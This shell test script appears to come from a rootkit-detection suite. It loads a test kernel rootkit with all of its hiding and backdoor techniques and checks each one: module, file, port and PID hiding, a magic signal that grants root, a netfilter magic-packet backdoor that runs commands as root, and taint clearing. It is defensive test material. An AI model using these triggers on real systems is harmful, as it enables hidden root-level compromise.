# SPDX-License-Identifier: GPL-2.0
# Every vedkit technique at once, hidden module included: they compose, and
# each effect is still there (the per-technique scenarios test each one
# before/after; this one is the state ved's detectors face).
. /tests/lib/guest.sh

magic_uid() {
	as_user sh -c 'kill -64 99999
		while read -r k r e rest; do [ "$k" = Uid: ] && echo "$e"; done </proc/$$/status' \
		2>/dev/null
}

runas 1000 1000 sleep 300 &
pid=$!
runas 1000 1000 nc -l -p 31337 >/dev/null &
listener=$!
echo secret >/tmp/vedkit_secret
sleep 0.3
all=clear_taint,sct,dispatch,ftrace_file,kprobe_port,hide_pid,nf_backdoor,hide_module
expect rootkit-all-load "vedkit techniques=$all loads" \
	load_module vedkit techniques=$all hide_pid="$pid"
expect rootkit-all-hidden-module "vedkit is not in /proc/modules nor /sys/module" \
	sh -c '! grep -q "^vedkit " /proc/modules && [ ! -e /sys/module/vedkit ]'
uid=$(magic_uid)
expect rootkit-all-magic-kill "kill -64 as uid 1000 gives uid $uid" [ "$uid" = 0 ]
expect rootkit-all-file "ls /tmp does not show vedkit_secret, cat reads it" \
	sh -c '! ls /tmp | grep -q vedkit_ && [ "$(cat /tmp/vedkit_secret)" = secret ]'
expect rootkit-all-port "port 31337 is not in /proc/net/tcp*" \
	sh -c '! grep -qi ":7A69 " /proc/net/tcp /proc/net/tcp6'
expect rootkit-all-pid "pid $pid is not in ls /proc but kill -0 finds it" \
	sh -c "! ls /proc | grep -qx $pid && kill -0 $pid"
as_user timeout 2 tftp -g -r 'vedkit:id -u >/tmp/nf-proof' -l /dev/null 127.0.0.1 31338 \
	>/dev/null 2>&1
for i in 1 2 3 4 5 6 7 8 9 10; do [ -s /tmp/nf-proof ] && break; sleep 0.2; done
expect rootkit-all-netfilter "the magic packet ran a command as root" \
	sh -c 'root_owned() { [ "$(stat -c %u "$1")" = 0 ]; }; root_owned /tmp/nf-proof && [ "$(cat /tmp/nf-proof)" = 0 ]'
expect rootkit-all-taint "/proc/sys/kernel/tainted reads 0" [ "$(cat /proc/sys/kernel/tainted)" = 0 ]
kill "$pid" "$listener"
